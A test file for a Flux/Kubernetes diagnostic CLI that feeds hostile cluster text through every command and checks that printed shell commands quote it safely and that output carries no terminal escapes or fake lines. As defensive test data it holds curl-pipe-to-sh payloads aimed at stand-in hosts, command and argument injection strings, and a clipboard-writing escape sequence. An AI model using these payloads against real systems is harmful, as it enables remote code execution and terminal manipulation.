// Cluster text as an attack on the reader (issue 8): every command fluxdoctor prints passes each
// cluster value as ONE literal shell argument, and no control, bidi, zero-width or separator
// character, nor a fake line, reaches stdout or stderr of any command in any format.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { stringify } from 'yaml';
import { type Io, main } from '../src/cli/main.js';
import { clean, cleanLine, safeOutput, stripControl } from '../src/render/sanitize.js';
import { nsArg, raw, sh, shq, shqOr, UNSAFE_MARK, UNSAFE_STEP, unsafeReason } from '../src/render/shell.js';
import { describeCmd, eventsCmd, getYamlCmd, logsCmd, reconcileCmd } from '../src/rules/util.js';
import { cond, event, logLine, obj, READY, status } from './helpers.js';
import { readInline } from './markdown-inline.js';

// ---------- a POSIX shell tokenizer (enough of sh(1) to see what a pasted command does) ----------

interface Word {
  /** The argument the program receives. */
  value: string;
  /** An unquoted or double-quoted `$` or backtick: the shell would expand something. */
  expands: boolean;
}

/**
 * Split a command (starting at `from`) into words the way a POSIX shell does, until the end of the
 * text or an unquoted character that ends a command in prose (`;`, `(`, `)`, `#` at a word start,
 * `, `, and a backtick when the command was opened by one). `|` and `&&` separate commands of a
 * pipeline and are kept as words of their own.
 */
function tokenize(text: string, from: number, inBackticks: boolean): Word[] {
  const words: Word[] = [];
  let cur: Word | undefined;
  const push = () => {
    if (cur) words.push(cur);
    cur = undefined;
  };
  const add = (ch: string) => {
    cur ??= { value: '', expands: false };
    cur.value += ch;
  };
  for (let i = from; i < text.length; i++) {
    const ch = text[i]!;
    if (ch === ' ' || ch === '\t') {
      push();
      continue;
    }
    if (ch === "'") {
      const end = text.indexOf("'", i + 1);
      assert.ok(end > 0, `unterminated single quote in: ${text.slice(from)}`);
      cur ??= { value: '', expands: false };
      cur.value += text.slice(i + 1, end);
      i = end;
      continue;
    }
    if (ch === '"') {
      cur ??= { value: '', expands: false };
      let j = i + 1;
      for (; j < text.length && text[j] !== '"'; j++) {
        if (text[j] === '\\' && '$`"\\'.includes(text[j + 1] ?? '')) j++;
        else if (text[j] === '$' || text[j] === '`') cur.expands = true;
        cur.value += text[j];
      }
      assert.ok(j < text.length, `unterminated double quote in: ${text.slice(from)}`);
      i = j;
      continue;
    }
    if (ch === '\\') {
      add(text[i + 1] ?? '');
      i++;
      continue;
    }
    if (ch === '`' && inBackticks) break;
    if (ch === ';' || ch === '(' || ch === ')' || (ch === '#' && !cur) || (ch === ',' && text[i + 1] === ' ')) break;
    if (ch === '|' || ch === '&') {
      push();
      words.push({ value: ch, expands: false });
      continue;
    }
    add(ch);
    if (ch === '$' || ch === '`') cur!.expands = true;
  }
  push();
  return words;
}

// Our own expansions, written by the rules on purpose.
const OWN_EXPANSIONS = [
  /"\$\(date \+%s\)"/g,
  /\$TOKEN\b/g,
  /TOKEN=\$\(head -c 12 \/dev\/urandom \| shasum \| cut -d " " -f1\)/g,
];
const COMMAND = /(^|[\s(:`])(flux|flux-operator|kubectl|helm|git|crane|openssl|ssh-keyscan|cosign|notation|sops) /g;

/** Every command printed in a step, as the words a shell would give the program. */
function commandsIn(step: string): Word[][] {
  let s = step;
  for (const re of OWN_EXPANSIONS) s = s.replace(re, 'OWN');
  const out: Word[][] = [];
  for (const m of s.matchAll(COMMAND)) out.push(tokenize(s, m.index! + m[1]!.length, m[1] === '`'));
  return out;
}

// ---------- the tokenizer agrees with bash ----------

const bash = (script: string): string => execFileSync('bash', ['-c', script], { encoding: 'utf8' });

describe('shell quoting (shq, sh)', () => {
  const hostileValues = [
    '$(curl -s x.example|sh)',
    '`id`',
    ';id',
    "it's",
    "''",
    'a b',
    '*',
    '~root',
    '=ls',
    '!!',
    '$HOME',
    '$' + '{IFS}',
    'x&&id',
    'x|id',
    'a"b',
    'a\\b',
    '{a,b}',
    '#comment',
    'https://example.com/x?y=1&z=2',
    '',
  ];

  it('bash reads every quoted value back as one argument with the same bytes', () => {
    const script = hostileValues.map((v) => `printf '%s\\0' ${shq(v)}`).join('; ');
    const got = bash(script).split('\0').slice(0, -1);
    assert.deepEqual(got, hostileValues);
  });

  it('property: any value without controls round-trips through bash as one argument', () => {
    const safeChar = fc
      .integer({ min: 0x20, max: 0x2ff })
      .filter((c) => c !== 0x7f && !(c >= 0x80 && c <= 0x9f) && c !== 0xad)
      .map((c) => String.fromCodePoint(c));
    const value = fc
      .array(
        fc.oneof(safeChar, fc.constantFrom("'", '"', '$', '`', '\\', ';', '|', '&', '(', ')', ' ', '*', '?', '!')),
        {
          maxLength: 24,
        },
      )
      .map((a) => a.join(''))
      .filter((v) => !v.startsWith('-'));
    const samples = fc.sample(value, { numRuns: 150, seed: 8 });
    const got = bash(samples.map((v) => `printf '%s\\0' ${shq(v)}`).join('; '))
      .split('\0')
      .slice(0, -1);
    assert.deepEqual(got, samples);
    // The test's own tokenizer agrees with bash on the same commands.
    for (const v of samples)
      assert.deepEqual(
        tokenize(`printf ${shq(v)}`, 0, false).map((w) => w.value),
        ['printf', v],
      );
  });

  it('leaves plain words readable and quotes everything else', () => {
    assert.equal(shq('flux-system'), 'flux-system');
    assert.equal(shq('https://example.com/x'), 'https://example.com/x');
    assert.equal(shq('helm.toolkit.fluxcd.io/name=web,x=y'), 'helm.toolkit.fluxcd.io/name=web,x=y');
    assert.equal(shq("it's"), "'it'\\''s'");
    assert.equal(shq('=ls'), "'=ls'");
    assert.equal(shq(''), "''");
    assert.equal(shqOr(undefined, '<url>'), '<url>');
    assert.equal(nsArg('apps'), ' -n apps');
    assert.equal(nsArg(undefined), '');
    assert.equal(
      sh`flux reconcile ks ${'a;b'} -n ${'apps'}${raw(' --with-source')}${undefined}`,
      "flux reconcile ks 'a;b' -n apps --with-source",
    );
  });

  it('the shared command builders quote kind, name and namespace (a kind from a snapshot is cluster text too)', () => {
    const ref = { kind: 'Foo;id', namespace: 'ns$(id)', name: "a'b" };
    for (const [cmd, ns] of [
      [describeCmd(ref), 'ns$(id)'],
      [getYamlCmd(ref), 'ns$(id)'],
      [eventsCmd(ref), 'ns$(id)'],
      [reconcileCmd(ref), 'ns$(id)'],
      [logsCmd(ref, 'flux`id`'), 'flux`id`'],
    ] as const) {
      const words = commandsIn(cmd)[0]!;
      assert.ok(
        words.every((w) => !w.expands),
        cmd,
      );
      assert.ok(
        words.some((w) => w.value.includes("a'b")),
        cmd,
      );
      assert.ok(
        words.some((w) => w.value === ns),
        cmd,
      );
    }
    assert.deepEqual(
      tokenize(describeCmd(ref), 0, false).map((w) => w.value),
      ['kubectl', 'describe', 'foo;id', "a'b", '-n', 'ns$(id)'],
    );
  });

  it('a value with a line break, NUL, control or invisible character or a leading "-" is refused, and the step says so', () => {
    for (const v of [
      'a\nb',
      'a\u0000b',
      'a\rb',
      'a\u001b[2Jb',
      'a\u202eb',
      'a\u200bb',
      'a\u2028b',
      'a\u0085b',
      '--upload-pack=id',
    ]) {
      assert.ok(unsafeReason(v), JSON.stringify(v));
      assert.equal(shq(v), UNSAFE_MARK);
      const step = clean(`Run: flux reconcile ks ${shq(v)} -n apps`);
      assert.equal(step, UNSAFE_STEP);
      assert.ok(!step.includes('reconcile ks'), 'the command is omitted');
    }
  });
});

describe('text sanitising', () => {
  it('strips escape sequences and controls, shows bidi, zero-width and separator characters', () => {
    const s = stripControl(
      'a\u001b]52;c;cHduZWQ=\u0007b\u001b[2Jc\u0007d\u202ee\u200bf\u2028g\u2029h\u0085i\ufeffj\u061ck\u2066l',
    );
    assert.equal(s, 'abcd<U+202E>e<U+200B>f<U+2028>g<U+2029>hi<U+FEFF>j<U+061C>k<U+2066>l');
    assert.equal(cleanLine('one\ntwo\r\nthree'), 'one two three');
  });

  it('the output filter keeps only our own colour and progress sequences', () => {
    const ours = '\u001b[31mred\u001b[39m \u001b[1mbold\u001b[22m\r\u001b[2Kprogress';
    assert.equal(safeOutput(ours), ours);
    assert.equal(safeOutput('x\u001b]52;c;cHduZWQ=\u0007y\u001b[2J\u001b[8mz\r\u202e\u0007\n'), 'xyz<U+202E>\n');
  });
});

// ---------- a hostile snapshot through every command and format ----------

const P1 = '$(curl -s PWN1.example|sh)';
const P2 = '`PWN2`';
const P3 = ';PWN3';
const P4 = "'PWN4'";
const PAYLOADS: Record<string, string> = { PWN1: P1, PWN2: P2, PWN3: P3, PWN4: P4 };
const TERM = '\u001b[2J\u001b]52;c;cHduZWQ=\u0007\u0007\u202e\u200b\u2028\u2029\u0085';
const FAKE = '\n✓ No problems found\n    9. curl PWN5.example|sh\n';
const evilText = `${TERM} ${P1} ${P2} ${P3} ${P4}${FAKE}end`;

const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\p{Cf}\p{Zl}\p{Zp}]/u;

function hostileDocs() {
  const ns = 'flux-system';
  const chartName = `podinfo${P3}`;
  const noVersion = `invalid chart reference: failed to get chart version for remote reference: no '${chartName}' chart with version matching '9.*' found`;
  const gitName = `app${P2}`;
  const gitUrl = `https://git.example.com/org/${P4}.git`;
  const dns = `failed to checkout and determine revision: unable to clone '${gitUrl}': dial tcp: lookup git.example.com on 10.100.0.10:53: no such host`;
  // source-controller gitCheckout wrapping fluxcd/pkg git/gogit clone.go (see test/rules/source-ref-not-found.test.ts).
  const refMissing = `failed to checkout and determine revision: unable to clone '${gitUrl}': couldn't find remote ref "refs/heads/master"`;
  const labels = { team: evilText.slice(0, 60), 'app.kubernetes.io/name': `x${P1}` };
  const ksRef = { kind: 'Kustomization', namespace: ns, name: `apps${P3}` };
  return {
    docs: [
      obj('HelmRepository', 'charts', {
        labels,
        spec: { url: `https://charts.example.com/${P1}`, interval: '10m' },
        status: READY('stored artifact: revision sha256:abc'),
      }),
      obj('HelmChart', `${ns}-web`, {
        spec: { chart: chartName, version: '9.*', sourceRef: { kind: 'HelmRepository', name: 'charts' } },
        status: status(
          ['False', 'InvalidChartReference', noVersion],
          [cond('Stalled', 'True', 'InvalidChartReference', noVersion)],
        ),
      }),
      obj('GitRepository', gitName, {
        labels,
        spec: { url: gitUrl, interval: '5m', ref: { branch: 'main' } },
        status: status(['False', 'GitOperationFailed', dns], [cond('FetchFailed', 'True', 'GitOperationFailed', dns)]),
      }),
      obj('GitRepository', 'refs', {
        spec: { url: gitUrl, interval: '5m', ref: { branch: 'master' } },
        status: status(
          ['False', 'GitOperationFailed', refMissing],
          [cond('FetchFailed', 'True', 'GitOperationFailed', refMissing)],
        ),
      }),
      obj('Kustomization', `apps${P3}`, {
        labels,
        spec: { sourceRef: { kind: 'GitRepository', name: gitName }, path: `./deploy/${P1}`, interval: '5m' },
        status: status(['False', 'ArtifactFailed', `Source artifact not found, retrying in 30s ${evilText}`]),
      }),
      obj('Kustomization', `build\u202eevil`, {
        spec: { sourceRef: { kind: 'GitRepository', name: 'other' }, path: './x', interval: '5m' },
        status: status(['False', 'BuildFailed', `kustomize build failed: accumulating resources: ${evilText}`]),
      }),
      obj('GitRepository', 'other', { spec: { url: 'https://example.com/other' }, status: READY() }),
      obj('Kustomization', `nl${FAKE}`, {
        spec: { sourceRef: { kind: 'GitRepository', name: 'other' }, path: './x', interval: '5m' },
        status: status(['False', 'BuildFailed', 'kustomize build failed: accumulating resources: missing file']),
      }),
      obj('Pod', `apps/web-${P1}`, {
        spec: { restartPolicy: 'Always', containers: [{ name: `app${P3}`, image: 'ghcr.io/acme/app:1.4.2' }] },
        status: {
          phase: 'Running',
          containerStatuses: [
            {
              name: `app${P3}`,
              ready: false,
              restartCount: 7,
              image: 'ghcr.io/acme/app:1.4.2',
              state: {
                waiting: {
                  reason: 'CrashLoopBackOff',
                  message: `back-off 5m0s restarting failed container=app${P3} pod=web_apps(uid) ${evilText}`,
                },
              },
              lastState: { terminated: { exitCode: 1, reason: 'Error', message: evilText } },
            },
          ],
        },
      }),
      event(ksRef, 'ArtifactFailed', evilText),
    ],
    logs: [logLine(ksRef, evilText, evilText)],
  };
}

interface Run {
  code: number;
  out: string;
  err: string;
}

async function run(args: string[], tty = false): Promise<Run> {
  let out = '';
  let err = '';
  const io: Io = {
    stdout: { write: (s: string) => (out += s), isTTY: tty },
    stderr: { write: (s: string) => (err += s), isTTY: tty },
    env: tty ? { FORCE_COLOR: '1' } : {},
  };
  const code = await main(['node', 'fluxdoctor', ...args], io);
  return { code, out, err };
}

function writeHostile(): { dir: string; args: string[] } {
  const dir = mkdtempSync(join(tmpdir(), 'fd-hostile-'));
  const { docs, logs } = hostileDocs();
  const snap = join(dir, 'cluster.yaml');
  writeFileSync(snap, stringify({ apiVersion: 'v1', kind: 'List', items: docs }));
  const log = join(dir, 'controllers.log');
  writeFileSync(log, logs.map((l) => JSON.stringify(l)).join('\n'));
  return { dir, args: ['--snapshot', snap, '--logs', log, '--now', '2026-11-24T10:10:00Z'] };
}

/** `data`: YAML documents, where a multi-line evidence text is a block scalar (indented, not a report line). */
function assertClean(r: Run, what: string, data = false) {
  for (const [name, text] of [
    ['stdout', r.out],
    ['stderr', r.err],
  ] as const) {
    const m = FORBIDDEN.exec(text.replace(/\u001b\[(?:0|1|2|22|3[0-9]|90)m/g, ''));
    assert.ok(
      !m,
      `${what}: ${name} carries U+${m?.[0].codePointAt(0)?.toString(16)} near ${JSON.stringify(text.slice(Math.max(0, (m?.index ?? 0) - 40), (m?.index ?? 0) + 40))}`,
    );
    // A newline in cluster text never starts a line of its own.
    if (data) continue;
    assert.ok(!/^\s*✓ No problems found/m.test(text), `${what}: ${name} has a fake "No problems found" line`);
    assert.ok(!/^\s*9\. curl/m.test(text), `${what}: ${name} has a fake step line`);
  }
}

/** Check every command of every step; returns the markers seen inside command arguments. */
function checkSteps(steps: string[], what: string): Set<string> {
  const seen = new Set<string>();
  for (const step of steps) {
    assert.ok(!step.includes('\n'), `${what}: a step spans lines: ${JSON.stringify(step)}`);
    for (const words of commandsIn(step)) {
      for (const w of words) {
        assert.ok(!w.expands, `${what}: the shell would expand ${JSON.stringify(w.value)} in: ${step}`);
        for (const [marker, payload] of Object.entries(PAYLOADS)) {
          if (!w.value.includes(marker)) continue;
          assert.ok(
            w.value.includes(payload),
            `${what}: ${marker} is split from its value (${JSON.stringify(w.value)}) in: ${step}`,
          );
          seen.add(marker);
        }
        assert.ok(!w.value.includes('PWN5'), `${what}: a fake line reached a command: ${step}`);
      }
    }
  }
  return seen;
}

describe('hostile cluster text through every command', () => {
  const h = writeHostile();

  it('diagnose -o json: every command keeps each cluster value as one literal argument', async () => {
    const r = await run(['diagnose', '-o', 'json', ...h.args]);
    assertClean(r, 'diagnose json');
    const doc = JSON.parse(r.out);
    const steps: string[] = doc.findings.flatMap((f: { remediation: string[] }) => f.remediation);
    const seen = checkSteps(steps, 'diagnose json');
    // The test means something: each payload reached a printed command (quoted).
    assert.deepEqual([...seen].sort(), ['PWN1', 'PWN2', 'PWN3', 'PWN4']);
    assert.ok(
      steps.some((s) => s.includes(`helm repo add tmp 'https://charts.example.com/${P1}'`)),
      steps.join('\n'),
    );
    // Names that cannot be quoted (a line break, a bidi override) omit the command and say so.
    assert.ok(steps.includes(UNSAFE_STEP), 'an unsafe value makes its step say so');
    assert.ok(!steps.some((s) => s.includes('build<U+202E>evil') && /flux reconcile/.test(s)));
  });

  it('diagnose text (plain, verbose, colour), Markdown and YAML print the same safe steps, one per line', async () => {
    const json = JSON.parse((await run(['diagnose', '-o', 'json', ...h.args])).out);
    const steps: string[] = json.findings.flatMap((f: { remediation: string[] }) => f.remediation);
    for (const extra of [[], ['-v']]) {
      const r = await run(['diagnose', ...extra, ...h.args]);
      assertClean(r, `diagnose text ${extra.join(' ')}`);
      const printed = r.out
        .split('\n')
        .map((l) => /^ {4}\d+\. (.*)$/.exec(l)?.[1])
        .filter((x): x is string => x !== undefined);
      assert.deepEqual(printed, steps);
    }
    const tty = await run(['diagnose', ...h.args], true);
    assertClean(tty, 'diagnose text on a terminal');
    assert.match(tty.out, /\u001b\[31m/, 'colour is still there');
    const md = await run(['diagnose', '-o', 'markdown', ...h.args]);
    assertClean(md, 'diagnose markdown');
    const mdSteps = md.out
      .split('\n')
      .map((l) => /^\d+\. (.*)$/.exec(l)?.[1])
      .filter((x): x is string => x !== undefined)
      .map((x) => readInline(x).text);
    assert.deepEqual(mdSteps, steps);
    checkSteps(mdSteps, 'diagnose markdown');
    assertClean(await run(['diagnose', '-o', 'yaml', ...h.args]), 'diagnose yaml', true);
  });

  it('every view and format is free of control, bidi, zero-width and separator characters', async () => {
    const commands = [
      ['get'],
      ['get', '-o', 'json'],
      ['get', '-o', 'yaml'],
      ['get', 'ks'],
      ['get', 'all', '-A'],
      ['stats'],
      ['stats', '-o', 'json'],
      ['tree', `ks/flux-system/apps${P3}`],
      ['tree', `ks/flux-system/apps${P3}`, '-o', 'json'],
      ['trace', `ks/flux-system/apps${P3}`],
      ['trace', `pod/apps/web-${P1}`, '-o', 'yaml'],
      ['events'],
      ['events', '-o', 'json'],
      ['events', '--for', `ks/flux-system/apps${P3}`],
      ['logs'],
      ['logs', '-o', 'yaml'],
      ['check'],
      ['check', '-o', 'json'],
      ['snapshot', '-f', '-'],
      ['snapshot', '-o', 'json'],
    ];
    for (const c of commands) {
      const r = await run([...c, ...h.args]);
      assert.ok(r.code !== undefined);
      assertClean(r, c.join(' '), c.includes('yaml') || c[0] === 'snapshot');
    }
  });

  it('snapshot -f FILE: the stderr summary is one clean line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'fd-hostile-snap-'));
    // A file that cannot be read, with a hostile name: the summary quotes it.
    const bad = join(dir, `bad\u001b]52;c;cHduZWQ=\u0007\u202e${FAKE.replace(/\n/g, '_')}.yaml`);
    writeFileSync(bad, `kind: [\n  ${TERM}: ${evilText}\n`);
    writeFileSync(join(dir, 'cluster.yaml'), readFileSync(h.args[1]!, 'utf8'));
    const out = join(dir, 'bundle.yaml');
    const r = await run(['snapshot', '-f', out, '--snapshot', dir]);
    assert.equal(r.code, 0, r.err);
    assertClean(r, 'snapshot -f FILE');
    assert.match(r.err, /^wrote .*partial: /);
    assert.equal(r.err.trimEnd().split('\n').length, 1, r.err);
  });

  it('the "no Kubernetes objects" error names the files in clean single lines', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'fd-hostile-empty-'));
    mkdirSync(join(dir, 'sub'));
    writeFileSync(join(dir, 'sub', `x\u001b[2J\u0007\u202e.yaml`), `kind: [\n  ${TERM}${FAKE}: ${evilText}\n`);
    writeFileSync(
      join(dir, 'sub', `y${FAKE.replace(/\n/g, ' ')}.json`),
      `{"a": "${TERM.replace(/[\u0000-\u001f]/g, '')}${P1}`,
    );
    const r = await run(['diagnose', '--snapshot', dir]);
    assert.equal(r.code, 2);
    assertClean(r, 'no objects error');
    const lines = r.err.trimEnd().split('\n');
    assert.match(lines[0]!, /^fluxdoctor: no Kubernetes objects could be read/);
    // One line per problem: the file name and message never add lines.
    assert.ok(
      lines.slice(1).every((l) => l.startsWith('  ')),
      r.err,
    );
    assert.ok(lines.length <= 3, r.err);
  });

  it('the ambiguous-namespace error is one clean line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'fd-hostile-dup-'));
    const snap = join(dir, 'cluster.yaml');
    writeFileSync(
      snap,
      stringify({
        apiVersion: 'v1',
        kind: 'List',
        items: [
          obj('Kustomization', `a\u001b]52;c;cHduZWQ=\u0007\u202e/dup`, { status: READY() }),
          obj('Kustomization', `b${FAKE}/dup`, { status: READY() }),
        ],
      }),
    );
    for (const c of [
      ['tree', 'ks/dup'],
      ['trace', 'ks/dup'],
      ['events', '--for', 'ks/dup'],
    ]) {
      const r = await run([...c, '--snapshot', snap]);
      assert.equal(r.code, 2, `${c.join(' ')}: ${r.err}`);
      assertClean(r, `${c.join(' ')} ambiguous`);
      assert.match(r.err, /exists in several namespaces/);
      assert.equal(r.err.trimEnd().split('\n').length, 1, r.err);
    }
  });

  it('an error that quotes the user input (a hostile target word) is clean', async () => {
    const r = await run(['tree', `ks/${TERM}${FAKE}`, ...h.args]);
    assert.notEqual(r.code, 0);
    assertClean(r, 'tree unknown target');
  });
});
